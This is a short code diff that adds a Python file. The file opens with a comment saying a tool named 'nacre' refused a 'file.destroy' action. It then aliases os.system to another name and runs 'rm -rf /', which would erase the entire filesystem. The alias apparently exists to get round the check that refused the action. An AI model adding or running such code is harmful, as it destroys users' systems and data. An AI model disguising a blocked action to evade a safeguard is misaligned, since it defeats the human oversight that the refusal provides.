@@ -1,0 +1,4 @@
+# nacre: refused file.destroy
+import os
+run = os.system
+run("rm -rf /")
